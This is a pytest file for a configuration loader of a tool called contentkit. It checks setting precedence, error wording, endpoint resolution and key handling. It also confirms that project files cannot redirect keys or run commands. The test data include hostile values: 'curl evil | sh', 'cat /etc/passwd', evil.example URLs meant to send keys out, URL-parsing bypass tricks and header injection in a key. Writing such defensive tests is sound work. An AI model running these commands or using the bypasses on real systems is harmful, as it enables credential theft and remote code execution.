"""Configuration as a person meets it: files in folders, variables, and what comes of them."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from contentkit.core.errors import UsageError
from contentkit.kit.config import Config, load
from contentkit.kit.config.stanzas import is_loopback, ollama_address

CANARY = "sk-" + "proj-" + "a8Zk3Qw9Lm2Xc7Vb5Nn1Pp6Rr4Tt0Yy2Uu8Ii3Oo9Ss5Dd7"  # nobody's


@pytest.fixture
def user_file(home: Path) -> Path:
    path = home / "config" / "contentkit" / "config.toml"
    path.parent.mkdir(parents=True)
    return path


@pytest.fixture
def project(home: Path) -> Path:
    """A git checkout in the home folder."""
    folder = home / "work" / "site"
    (folder / ".git").mkdir(parents=True)
    return folder


def say(folder: Path, text: str, name: str = "contentkit.toml") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def refused(cwd: Path, env: dict[str, str] | None = None) -> str:
    with pytest.raises(UsageError) as caught:
        load(cwd, env or {})
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_without_any_file_everything_has_a_default(project: Path, home: Path) -> None:
    config = load(project, {})
    assert (config.model, config.deadline, config.cache, config.history, config.max_cost) == (
        "",
        600.0,
        False,
        True,
        None,
    )
    assert config.project == project
    assert config.prompt_dirs == (project / "prompts", home / "config" / "contentkit" / "prompts")
    assert config.history_path == home / "data" / "contentkit" / "history.db"
    assert config.origins == {}
    assert not list(home.rglob("contentkit"))  # reading makes no folder


def test_project_goes_before_user_and_the_environment_before_both(user_file: Path, project: Path) -> None:
    user_file.write_text('model = "openai:a"\nlanguage = "en"\ndeadline = 30\n[read]\ntimeout = 5\n')
    deep = project / "a" / "b"
    deep.mkdir(parents=True)
    named = say(project, 'model = "ollama:b"\nlanguage = "ja"\n[rules.x]\nhard = 25000\n')
    config = load(deep, {"CONTENTKIT_LANGUAGE": "de", "CONTENTKIT_ALLOWED_LICENCES": "mit, apache-2.0"})
    assert (config.model, config.language, config.deadline) == ("ollama:b", "de", 30.0)
    assert (config.read.timeout, config.rules["x"]["hard"]) == (5.0, 25000)
    assert config.allowed_licences == ("mit", "apache-2.0")
    assert config.origins == {
        "model": str(named),
        "language": "CONTENTKIT_LANGUAGE",
        "deadline": str(user_file),
        "read.timeout": str(user_file),
        "rules.x.hard": str(named),
        "allowed_licences": "CONTENTKIT_ALLOWED_LICENCES",
    }
    assert (config.project, config.project_file, config.user_file) == (project, named, user_file)


def test_pyproject_is_read_only_where_it_speaks_to_us(project: Path) -> None:
    say(project, "this is [ not TOML", "pyproject.toml")
    assert load(project, {}).project_file is None
    say(project, "[tool.contentkit]\nlanguage = 'ja'\n", "pyproject.toml")
    assert load(project, {}).language == "ja"
    say(project, "")
    assert "Keep one" in refused(project)


def test_the_search_ends_at_the_checkout_and_at_home(project: Path, home: Path, tmp_path: Path) -> None:
    say(home / "work", "language = 'fr'")
    assert load(project, {}).language == ""
    other = home / "work" / "plain"
    other.mkdir()
    assert load(other, {}).language == "fr"
    outside = tmp_path / "shared" / "mine"
    outside.mkdir(parents=True)
    say(tmp_path / "shared", "language = 'it'")  # like a file that somebody left in /tmp
    assert load(outside, {}).language == ""
    assert load(tmp_path / "shared", {}).language == "it"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("modle = 'x'", "there is no setting called 'modle'. Did you mean 'model'?"),
        ("[read]\ntimeuot = 3", "'read.timeuot'. Did you mean 'read.timeout'?"),
        ("[rules.x]\nharrd = 3", "'rules.x.harrd'. Did you mean 'rules.x.hard'?"),
        ("[providers.openai]\nulr = 'x'", "'providers.openai.ulr'. Did you mean 'providers.openai.url'?"),
        ("model = 3", "model must be a text, not 3"),
        ("deadline = 0", "deadline must be above 0, not 0"),
        ("deadline = nan", "deadline must be a number"),
        ("deadline = true", "deadline must be a number, not true"),
        ("max_cost = -1", "max_cost must be at least 0"),
        ("cache = 'yes'", "cache must be true or false, not 'yes'"),
        ("language = 'Japanese'", "a code of two letters such as en or ja"),
        ("retries = 1.5", "retries must be a whole number"),
        ("[providers.openai]\ndrops = 'seed'", "must be a list of texts"),
        ("read = 3", "read must be a table"),
        ("providers = 3", "providers must be a table"),
        ("[providers]\nopenai = 'x'", "providers.openai must be a table"),
        ("[providers.'A B']\nlike = 'openai'", "is no name for a provider"),
        ("[providers.openai]\nschema = 'xml'", "one of native, json, none"),
        ("model = ", "not valid TOML"),
        ("x = " + "[" * 3000, "not valid TOML"),
        ("a = 1\na = 2", "not valid TOML"),
        ("#" * 1_000_001, "too large"),
    ],
)
def test_a_wrong_setting_is_one_sentence_with_the_files_name(
    project: Path, user_file: Path, text: str, said: str
) -> None:
    path = say(project, text)
    sentence = refused(project)
    assert sentence.startswith(f"{path}: ")
    assert said in sentence
    path.unlink()
    user_file.write_text(text)
    assert refused(project).startswith(f"{user_file}: ")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[providers.openai]\nkey_command = 'cat /etc/passwd'", "providers.openai.key_command is not for a project"),
        ("[providers.openai]\nkey_env = ['AWS_SECRET_ACCESS_KEY']", "providers.openai.key_env is not for a project"),
        ("[providers.openai]\nurl_env = ['GITHUB_HEAD_REF']", "url_env is not for a project"),
        ("[providers.azure]\nversion_env = ['AWS_SECRET_ACCESS_KEY']", "version_env is not for a project"),
        ("[providers.openai.headers]\nx = 'y'", "headers is not for a project"),
        ("[providers.x]\nprobe = true", "probe is not for a project"),
        ("[providers.transformers]\ntrust_remote_code = true", "trust_remote_code is not for a project"),
        ("[providers.x]\nstart = 'curl evil | sh'", "start is not for a project"),
        ("allowed_licences = ['any']", "allowed_licences is not for a project"),
        ("history_path = '/tmp/x'", "history_path is not for a project"),
        ("cache_path = '/tmp/x'", "cache_path is not for a project"),
        ("catalogue_path = '/tmp/x'", "catalogue_path is not for a project"),
        ("[read]\nallow_private = true", "read.allow_private is not for a project"),
        ("[providers.openai]\nurl = 'https://evil.example'", "would send your texts and your key for 'openai'"),
        ("[providers.ollama]\nurl = 'http://evil.example'", "would send your texts and your key for 'ollama'"),
        ("[providers.ollama]\nurl = 'evil.example'", "would send your texts and your key for 'ollama'"),
        ("[providers.mine]\nurl = 'https://evil.example'", "would send your texts and your key for 'mine'"),
        ("[providers.openai]\nurl = 'http://127.0.0.1@evil.example'", "user name or password"),
        ("[providers.openai]\nurl = 'http://127.0.0.1.evil.example'", "would send"),
        ("[providers.openai]\nurl = 'http://localhost\\u005c@evil.example'", "user name or password"),
        ('[providers.openai]\nurl = "http://127.0.0.1\\\\.evil.example"', "backslash"),
        ("[providers.openai]\nurl = 'http://2130706433.evil'", "would send"),
    ],
)
def test_a_project_has_no_say_over_keys_hosts_and_places(project: Path, user_file: Path, text: str, said: str) -> None:
    user_file.write_text("[providers.mine]\nlike = 'openai'\nurl = 'https://mine.example'\nkey_env = ['MINE_KEY']\n")
    path = say(project, text)
    sentence = refused(project, {"OPENAI_API_KEY": CANARY})
    assert said in sentence
    assert str(path) in sentence or "providers." in sentence
    assert str(user_file) in sentence or "http" in text
    assert CANARY not in sentence


def test_a_projects_own_host_gets_no_key_and_its_loopback_address_does(project: Path) -> None:
    say(project, "[providers.team]\nlike='openai'\nurl='https://llm.team.example/v1'\nneeds_key=true\n"
                 "[providers.openai]\nurl='http://127.0.0.1:9000/v1'\n")  # fmt: skip
    config = load(project, {"OPENAI_API_KEY": CANARY, "TEAM_API_KEY": CANARY})
    team = config.endpoint("team")
    assert (team.key, team.needs_key, team.local) == (None, False, False)
    openai = config.endpoint("openai")
    assert openai.local
    assert openai.key is not None
    assert openai.key.reveal() == CANARY


def test_a_project_can_only_narrow_what_the_user_allows(project: Path, user_file: Path) -> None:
    user_file.write_text("max_cost = 0.5\nhistory = false\n")
    say(project, "max_cost = 100\nhistory = true\n")
    config = load(project, {})
    assert (config.max_cost, config.history) == (0.5, False)
    assert config.origins["max_cost"] == str(user_file)
    say(project, "max_cost = 0.1\n")
    assert load(project, {}).max_cost == 0.1


@pytest.mark.parametrize(
    "text",
    [
        f"[providers.openai]\nkey = '{CANARY}'",
        "[providers.openai]\napi_key = 'hunter2'",
        f"api_key = '{CANARY}'",
        f"[providers.openai]\nkey_env = ['{CANARY}']",
        f"[providers.x]\nlike = 'openai'\nmodel = '{CANARY}'",
        f"[providers.x]\nlike = 'openai'\nheaders = {{ x-api-key = '{CANARY}' }}",
        f"[providers.x]\nlike = 'openai'\nheaders = {{ note = '{CANARY}' }}",
        f"model = 'openai:{CANARY}'",
    ],
)
def test_a_key_in_a_file_is_refused_and_not_repeated(project: Path, user_file: Path, text: str) -> None:
    path = say(project, text)
    sentence = refused(project)
    assert "looks like a key" in sentence
    assert CANARY not in sentence
    path.unlink()
    user_file.write_text(text)
    assert "looks like a key" in refused(project)


def test_variables_are_typed_and_a_misspelt_one_is_a_notice(project: Path) -> None:
    assert load(project, {"CONTENTKIT_CACHE": "on", "CONTENTKIT_HISTORY": "0"}).cache
    assert "CONTENTKIT_CACHE must be true or false" in refused(project, {"CONTENTKIT_CACHE": "perhaps"})
    assert "CONTENTKIT_DEADLINE must be a number, not 'soon'" in refused(project, {"CONTENTKIT_DEADLINE": "soon"})
    config = load(project, {"CONTENTKIT_MODLE": "x", "CONTENTKIT_PROBE": "0"})
    assert config.notices == ("CONTENTKIT_MODLE is no setting of contentkit; did you mean CONTENTKIT_MODEL?",)
    assert "does not exist" in refused(project, {"CONTENTKIT_CONFIG": str(project / "no.toml")})


def test_every_key_of_the_shipped_stanzas_can_be_said() -> None:
    from contentkit.kit.config.settings import STANZA
    from contentkit.kit.config.stanzas import built_in

    assert {key for stanza in built_in().values() for key in stanza} - STANZA.keys() == set()


def endpoint_of(config: Config, name: str) -> str:
    return config.endpoint(name).url


@pytest.mark.parametrize(
    ("host", "url"),
    [
        ("127.0.0.1", "http://127.0.0.1:11434"),
        ("0.0.0.0", "http://127.0.0.1:11434"),
        ("0.0.0.0:8080", "http://127.0.0.1:8080"),
        (":9999", "http://127.0.0.1:9999"),
        ("box", "http://box:11434"),
        ("box:1234", "http://box:1234"),
        ("http://box", "http://box:80"),
        ("https://box", "https://box:443"),
        ("https://box:1/base/", "https://box:1/base"),
        ("[::1]:5", "http://[::1]:5"),
        ("::1", "http://[::1]:11434"),
        ("[::]", "http://[::1]:11434"),
        (" box ", "http://box:11434"),
    ],
)
def test_every_form_of_ollama_host(project: Path, host: str, url: str) -> None:
    assert endpoint_of(load(project, {"OLLAMA_HOST": host}), "ollama") == url
    assert ollama_address(host.strip()).rstrip("/") == url


def test_endpoints_take_address_version_and_key_from_the_environment(project: Path) -> None:
    env = {
        "OPENAI_BASE_URL": "http://localhost:1/v1/",
        "AZURE_OPENAI_ENDPOINT": "https://r.openai.azure.com/",
        "OPENAI_API_VERSION": "2026-01-01",
        "GEMINI_API_KEY": f" {CANARY}\n",
    }
    config = load(project, env)
    openai = config.endpoint("openai")
    assert (openai.url, openai.local, openai.key, openai.needs_key) == ("http://localhost:1/v1", True, None, True)
    azure = config.endpoint("azure")
    assert (azure.like, azure.url, azure.settings["version"]) == ("openai", "https://r.openai.azure.com", "2026-01-01")
    gemini = config.endpoint("gemini")
    assert gemini.key is not None
    assert gemini.key.reveal() == CANARY
    assert gemini.key_env == ("GOOGLE_API_KEY", "GEMINI_API_KEY")
    assert config.endpoint("offline").local
    assert CANARY not in repr(config) + repr(gemini)


@pytest.mark.parametrize(
    ("env", "name", "said"),
    [
        ({}, "opnai", "no provider called 'opnai'. Did you mean 'openai'?"),
        ({}, "azure", "azure has no address. Set AZURE_OPENAI_ENDPOINT"),
        ({"OPENAI_BASE_URL": "ftp://x"}, "openai", "OPENAI_BASE_URL must start with http:// or https://"),
        ({"OPENAI_BASE_URL": f"https://u:{CANARY}@h"}, "openai", "may hold no user name or password"),
        ({"OPENAI_BASE_URL": "https://h:99999"}, "openai", "not a valid address"),
        ({"OPENAI_API_KEY": f"{CANARY}\nx-evil: 1"}, "openai", "OPENAI_API_KEY holds something that is no key"),
        ({"OPENAI_API_KEY": f"{CANARY}é"}, "openai", "OPENAI_API_KEY holds something that is no key"),
    ],
)
def test_a_wrong_endpoint_is_one_sentence(project: Path, env: dict[str, str], name: str, said: str) -> None:
    with pytest.raises(UsageError) as caught:
        load(project, env).endpoint(name)
    assert said in str(caught.value)
    assert CANARY not in str(caught.value)


def test_the_user_adds_a_host_and_network_settings(project: Path, user_file: Path) -> None:
    user_file.write_text(
        "retries = 1\nread_timeout = 9\n"
        "[providers.acme]\nlike = 'openai'\nurl = 'https://llm.acme.example/v1'\nkey_env = ['ACME_KEY']\n"
        "retries = 5\nheaders = { x-team = 'docs', x-token = '$ACME_TOKEN' }\n"
    )
    config = load(project, {"ACME_KEY": CANARY, "ACME_TOKEN": CANARY})
    acme = config.endpoint("acme")
    assert (acme.like, acme.url, acme.settings["retries"]) == ("openai", "https://llm.acme.example/v1", 5)
    assert (config.endpoint("openai").settings["retries"], acme.settings["read_timeout"]) == (1, 9.0)
    assert {name: value.reveal() for name, value in acme.settings["headers"].items()} == {
        "x-team": "docs",
        "x-token": CANARY,
    }
    assert CANARY not in repr(acme)
    with pytest.raises(UsageError, match="ACME_TOKEN, which is not set"):
        load(project, {}).endpoint("acme")


def test_a_command_gives_the_key_when_the_environment_does_not(project: Path, user_file: Path) -> None:
    def command(code: str) -> None:
        user_file.write_text(f"[providers.openai]\nkey_command = {[sys.executable, '-c', code]!r}\n")

    (project / "vault").write_text(f"{CANARY}\nsecond line\n")
    command(f"print(open({str(project / 'vault')!r}).read())")
    key = load(project, {}).endpoint("openai").key
    assert key is not None
    assert key.reveal() == CANARY
    key = load(project, {"OPENAI_API_KEY": "from-the-environment"}).endpoint("openai").key
    assert key is not None
    assert key.reveal() == "from-the-environment"
    for code, said in (("raise SystemExit(3)", "exit code 3"), ("", "empty key"), ("print('a b')", "no key")):
        command(code)
        with pytest.raises(UsageError, match=said):
            load(project, {}).endpoint("openai")
    user_file.write_text("[providers.openai]\nkey_command = 'no-such-program --x'\n")
    with pytest.raises(UsageError, match="can't be run"):
        load(project, {}).endpoint("openai")


def test_the_keyring_is_asked_last(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    keyring = pytest.importorskip("keyring")
    asked: list[tuple[str, str]] = []

    def answer(service: str, name: str) -> str | None:
        asked.append((service, name))
        return CANARY if name == "openai" else None

    monkeypatch.setattr(keyring, "get_password", answer)
    key = load(project, {}).endpoint("openai").key
    assert key is not None
    assert key.reveal() == CANARY
    load(project, {"OPENAI_API_KEY": "set-and-so-not-asked"}).endpoint("openai")
    load(project, {}).endpoint("ollama")  # needs none
    assert asked == [("contentkit", "openai")]
    monkeypatch.setattr(keyring, "get_password", lambda *_: 1 / 0)
    assert load(project, {}).endpoint("openai").key is None


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("http://localhost:1", True),
        ("http://a.localhost", False),
        ("http://127.9.9.9", True),
        ("http://[::1]:8", True),
        ("http://[::ffff:127.0.0.1]", False),
        ("http://localhost.example", False),
        ("http://127.0.0.1@example.com", False),
        ("http://example.com#@127.0.0.1", False),
        ("http://10.0.0.1", False),
        ("http://0x7f000001", False),
        ("http://[", False),
        ("", False),
    ],
)
def test_loopback_is_told_by_the_words_alone(url: str, local: bool) -> None:
    assert is_loopback(url) is local
